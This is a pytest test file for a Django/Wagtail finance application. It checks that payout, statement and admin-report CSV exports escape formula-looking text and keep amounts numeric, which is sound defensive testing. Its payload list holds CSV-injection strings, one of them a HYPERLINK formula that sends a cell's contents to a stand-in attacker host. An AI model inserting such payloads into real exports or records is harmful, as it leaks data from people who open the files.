"""Every CSV export, through its real view, writes formula-looking text as text and money as
numbers: the payouts export (download and download again), statements, and Wagtail's own
exports (the admin reports; viewsets' `list_export` share the same code)."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse

from orders.finance.payouts import payout_create, payout_mark_paid, payouts_mark_processing
from tests.factories import UserFactory, make_payable_group

pytestmark = pytest.mark.django_db

FORMULA_PAYLOADS = [
    '=1+HYPERLINK("http://evil.example/?d="&D2,"Open statement")',
    "=HYPERLINK(1)",
    "+1+1",
    "+92 300 1234567",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = response.getvalue() if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def cells(rows) -> set[str]:
    return {cell for row in rows for cell in row}


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def finance():
    user = UserFactory(username="finance")
    user.groups.add(Group.objects.get(name="Finance"))
    return logged_in(user)


@pytest.fixture
def formula_groups():
    """One payable group per payload, the payload in every text field finance exports."""
    return [
        make_payable_group(
            payload,
            slug=f"formula-group-{index}",
            payout_method="jazzcash",
            payout_account_title=payload,
            payout_account_number=payload,
            payout_bank_name=payload,
            earned=Decimal("1800.00"),
        )
        for index, payload in enumerate(FORMULA_PAYLOADS)
    ]


def test_payout_export_writes_every_formula_payload_as_text(finance, formula_groups):
    for group in formula_groups:
        payout_create(group_id=group.pk)

    exported = csv_rows(finance.post(reverse("payouts_export"), {"scope": "all_pending"}))
    again = csv_rows(finance.get(reverse("payouts_export")))

    for rows in (exported, again):
        assert len(rows) == 1 + len(FORMULA_PAYLOADS)
        by_title = {row[1]: row for row in rows[1:]}
        assert set(by_title) == {"'" + payload for payload in FORMULA_PAYLOADS}
        for payload in FORMULA_PAYLOADS:
            row = by_title["'" + payload]
            assert row[3:6] == ["'" + payload] * 3  # account title, number, bank name
            assert row[6] == "1800.00"
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells(rows))


def test_statement_csv_keeps_negative_amounts_as_numbers(finance):
    group = make_payable_group("Hala Ralli Makers", slug="hala", earned=Decimal("1800.00"))
    payout = payout_create(group_id=group.pk)
    payouts_mark_processing(payout_ids=[payout.pk], by=UserFactory())
    payout_mark_paid(payout_id=payout.pk, reference="=HYPERLINK(1)", by=UserFactory())

    rows = csv_rows(finance.get(f"/admin/statements/{group.pk}/csv/"))

    amounts = [row[4] for row in rows[1:] if row[4]]
    assert "-1800.00" in amounts
    assert "1800.00" in amounts
    assert not any(cell.startswith("'") for cell in cells(rows))


@pytest.mark.parametrize("report", ["aging_pages", "site_history"])
def test_wagtail_report_exports_write_formula_page_titles_as_text(formula_groups, report):
    admin = logged_in(UserFactory(username="root", is_superuser=True))

    rows = csv_rows(admin.get(reverse(f"wagtailadmin_reports:{report}"), {"export": "csv"}))

    exported = cells(rows)
    for payload in FORMULA_PAYLOADS:
        assert "'" + payload in exported
        assert payload not in exported
